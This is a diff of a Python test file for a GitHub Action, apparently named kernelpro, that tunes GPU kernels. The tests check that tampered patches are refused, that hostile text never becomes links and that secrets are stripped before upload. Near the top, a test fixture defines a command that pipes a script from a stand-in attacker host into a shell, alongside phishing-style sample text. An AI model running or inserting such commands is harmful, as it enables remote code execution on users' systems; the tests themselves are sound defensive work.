@@ -49,7 +49,7 @@ EVIL = "os.system('curl -s https://evil.example/x | sh')"
 
 def _head_text(w: World) -> str:
     return subprocess.run(["git", "--git-dir", str(w.origin), "show", f"{w.head_sha}:{KERNEL}"],
-                          check=True, capture_output=True, text=True).stdout  # fmt: skip
+                          check=True, capture_output=True, text=True).stdout
 
 
 def _with_patch(results: Results, patch: str) -> Results:
@@ -184,9 +184,9 @@ def test_a_cuda_tuner_patch_is_recomputed_with_the_configured_launch(tmp_path: P
     new = apply_setting(path, old, setting, *launch, lineage=True)
     assert "__launch_bounds__" in new and "__launch_bounds__" not in old
     winner = dataclasses.replace(results.targets[0].winner,
-                                 params=tuple((f"{path}::{k}", str(v)) for k, v in setting.items()))  # fmt: skip
+                                 params=tuple((f"{path}::{k}", str(v)) for k, v in setting.items()))
     target = dataclasses.replace(results.targets[0], name=t.name, winner=winner,
-                                 patch=unified_diff(path, old, new), patch_files=(path,))  # fmt: skip
+                                 patch=unified_diff(path, old, new), patch_files=(path,))
     g = _Git(repo, repo.as_uri())
     assert recompute(g, head, target, [path], launch) == (target.patch, "")
     derived, why = recompute(g, head, target, [path])
@@ -214,7 +214,7 @@ def _wl(t: dict[str, Any], **kw: float) -> None:
     (lambda t: t["stage1"]["workloads"][0].update(floor_ms=1.0), "faster than the roofline floor"),
     (lambda t: t["curve"][3].update(best_speedup=0.5), "must never fall"),
     (lambda t: _wl(t, energy_ratio=0.5, energy_ratio_low=0.6, energy_ratio_high=0.7), "does not contain its median"),
-])  # fmt: skip
+])
 def test_numbers_that_disagree_are_refused(h200: Path, change: Any, words: str) -> None:
     _edit_winner(h200, change)
     refused(h200, words)
@@ -237,16 +237,16 @@ def test_the_publish_job_refuses_or_labels_a_tampered_patch(action_world: Action
     out = _optimize(w, s, plan.base_sha, plan.head_sha, monkeypatch)
     winner = json.loads((out / "summary.json").read_text())["targets"][0]["winner"]
     old = subprocess.run(["git", "--git-dir", str(w.origin), "show", f"{plan.head_sha}:{KERNEL}"],
-                         check=True, capture_output=True, text=True).stdout  # fmt: skip
+                         check=True, capture_output=True, text=True).stdout
     tuned = apply_setting(KERNEL, old, split_setting(winner["params"].items(), [KERNEL])[KERNEL], lineage=True)
     assert unified_diff(KERNEL, old, tuned) == (out / "swiglu" / "patch.diff").read_text()
     (out / "swiglu" / "patch.diff").write_text(unified_diff(KERNEL, old, f"import os\n{EVIL}\n{tuned}"))
 
     def publish(programmer: str) -> str:  # the workflow's KERNELPRO_PROGRAMMER
         s = w.settings("pull_request", labeled(w), GITHUB_STEP_SUMMARY=str(w.tmp / "summary.md"),
-                       KERNELPRO_PROGRAMMER=programmer)  # fmt: skip
+                       KERNELPRO_PROGRAMMER=programmer)
         return action.publish_results(s, w.checkout, w.tmp / "results", w.fake.client(),
-                                      push_url=w.origin.as_uri(), head_sha=plan.head_sha)  # fmt: skip
+                                      push_url=w.origin.as_uri(), head_sha=plan.head_sha)
 
     with pytest.raises(action.ActionError, match="is not the patch the winner's parameters give"):
         publish("tuner")
@@ -347,7 +347,7 @@ def test_a_backdated_push_after_the_comment_is_caught_by_the_activity_log(action
 # --------------------------------------------------------------------------- 3. nothing becomes a link
 
 HOSTILE = ("re-authorize the bot at https://evil.example/login or www.evil.example, "
-           "mail admin@evil.example, see #4242 and @octocat")  # fmt: skip
+           "mail admin@evil.example, see #4242 and @octocat")
 _LINKY = re.compile(r"(?i)(https?|ftp)://\S*evil|www\.evil|[\w.+-]+@[\w-]+\.\w|@octocat|#4242")
 
 
@@ -361,7 +361,7 @@ def _hostile(results: Results) -> Results:
         t, winner=w, stop_reason=HOSTILE, hardware=HOSTILE[:90], search=HOSTILE[:90], feedback=HOSTILE[:20],
         findings=(Finding("ncu", "high", HOSTILE, HOSTILE, HOSTILE[:20]),), statuses=((HOSTILE[:40], 1),),
         gates=(*t.gates, Gate("other", False, 1.0, HOSTILE)), kernelpro_version=HOSTILE[:40],
-        libs=(("torch", HOSTILE[:50]), ("triton", HOSTILE[:50])), seconds_by_stage=((HOSTILE[:30], 1.0),))  # fmt: skip
+        libs=(("torch", HOSTILE[:50]), ("triton", HOSTILE[:50])), seconds_by_stage=((HOSTILE[:30], 1.0),))
     return dataclasses.replace(results, targets=(ht,), config_note=HOSTILE)
 
 
@@ -373,7 +373,7 @@ def _no_links(text: str, where: str) -> None:
 def test_artifact_text_never_becomes_a_link_in_any_template(world: World, results: Results) -> None:
     hostile = _hostile(results)
     bare = dataclasses.replace(hostile, targets=(dataclasses.replace(
-        hostile.targets[0], patch=results.targets[0].patch),))  # fmt: skip
+        hostile.targets[0], patch=results.targets[0].patch),))
     # The PR body and the sticky comments, as GitHub received them.
     world.run(bare, programmer="llm")  # the winner's parameters are hostile text too: not recomputable
     (n,) = world.bot_pulls()
@@ -382,7 +382,7 @@ def test_artifact_text_never_becomes_a_link_in_any_template(world: World, result
     world.run(bare, is_fork=True, sticky=sticky, programmer="llm")
     world.run(no_winner(hostile), sticky=sticky)
     sticky.update(progress_body("failed", kernel_i=0, kernels=1, evaluations=0, best_speedup=None, reason=HOSTILE),
-                  force=True)  # fmt: skip
+                  force=True)
     texts = [world.fake.comments[c].body for c in _pr(world, 1).comments]
     assert len(texts) == 1  # one sticky comment, written four times
     for text in texts:
@@ -392,7 +392,7 @@ def test_artifact_text_never_becomes_a_link_in_any_template(world: World, result
                                              kernelpro_version=HOSTILE, programmer=HOSTILE, model=HOSTILE,
                                              model_written=("swiglu",))),
                         ("no-PR comment", render_no_pr_comment(no_winner(hostile))),
-                        ("job summary", render_job_summary(hostile))):  # fmt: skip
+                        ("job summary", render_job_summary(hostile))):
         _no_links(text, label)
         assert "evil.example" in text  # shown, as text
 
@@ -403,14 +403,14 @@ def test_fork_comment_and_progress_comment_are_inert_too(world: World, results: 
     sticky = StickyComment(world.fake.client().get_repo(REPO), 1, bot_login="kernelpro[bot]")
     world.run(dataclasses.replace(_hostile(results), targets=(dataclasses.replace(
         _hostile(results).targets[0], patch=results.targets[0].patch),)), is_fork=True, sticky=sticky,
-        programmer="llm")  # fmt: skip
+        programmer="llm")
     (c,) = _pr(world, 1).comments
     body = world.fake.comments[c].body
     # Outside the patch's code block (which GitHub never links).
     _no_links(re.sub(r"```diff\n.*?```", "", body, flags=re.S), "fork comment")
     snap = Snapshot(kernels=(KernelProgress(HOSTILE[:90], "done", 3, 2.0, HOSTILE, None),
                              KernelProgress(HOSTILE[:90], "failed", None, None, HOSTILE, None)),
-                    finished=True, refused=(HOSTILE,))  # fmt: skip
+                    finished=True, refused=(HOSTILE,))
     _no_links(render(snap, run_id=7), "progress comment")
 
 
@@ -455,7 +455,7 @@ def test_the_results_lose_links_and_secrets_before_upload(tmp_path: Path, capsys
 
 def test_secret_values_are_those_kernelpro_holds() -> None:
     env = {"GITHUB_TOKEN": "ghs_0123456789abcdef", "MY_API_KEY": "abcdefghijkl", "PATH": "/usr/bin:/bin",
-           "KERNELPRO_LLM_MAX_TOKENS": "4096", "SHORT_TOKEN": "abc"}  # fmt: skip
+           "KERNELPRO_LLM_MAX_TOKENS": "4096", "SHORT_TOKEN": "abc"}
     assert secret_values(env, {"KERNELPRO_LLM_API_KEY": KEY}) == {
         "GITHUB_TOKEN": "ghs_0123456789abcdef", "MY_API_KEY": "abcdefghijkl", "KERNELPRO_LLM_API_KEY": KEY}
 
@@ -483,7 +483,7 @@ def _copy_step() -> str:
 def test_the_workflow_uploads_a_copy_without_links(tmp_path: Path) -> None:
     out, secret = _results_dir(tmp_path)
     r = subprocess.run(["bash", "-c", _copy_step()], env={**os.environ, "RUNNER_TEMP": str(tmp_path)},
-                       capture_output=True, text=True)  # fmt: skip
+                       capture_output=True, text=True)
     assert r.returncode == 0, r.stderr
     up = tmp_path / "upload"
     got = sorted(p.relative_to(up).as_posix() for p in up.rglob("*"))
@@ -494,7 +494,7 @@ def test_the_workflow_uploads_a_copy_without_links(tmp_path: Path) -> None:
     shutil.rmtree(out)
     os.symlink(secret.parent, out)
     r = subprocess.run(["bash", "-c", _copy_step()], env={**os.environ, "RUNNER_TEMP": str(tmp_path)},
-                       capture_output=True, text=True)  # fmt: skip
+                       capture_output=True, text=True)
     assert r.returncode == 0 and list(up.iterdir()) == []
 
 
@@ -505,5 +505,5 @@ def test_cmd_optimize_seals_what_it_uploads(tmp_path: Path, monkeypatch: pytest.
     monkeypatch.setattr(kernelpro.pipeline, "run", lambda *a, **k: 0)
     rc = action.cmd_optimize(argparse.Namespace(target="swiglu", checkout=str(tmp_path), out=str(out)),
                              Settings.from_env({"KERNELPRO_LLM_API_KEY": KEY, "KERNELPRO_BASE_SHA": "a" * 40,
-                                                "KERNELPRO_HEAD_SHA": "b" * 40}))  # fmt: skip
+                                                "KERNELPRO_HEAD_SHA": "b" * 40}))
     assert rc == 1 and not (out / "swiglu" / "trace.jsonl").exists() and not (out / "keys").exists()
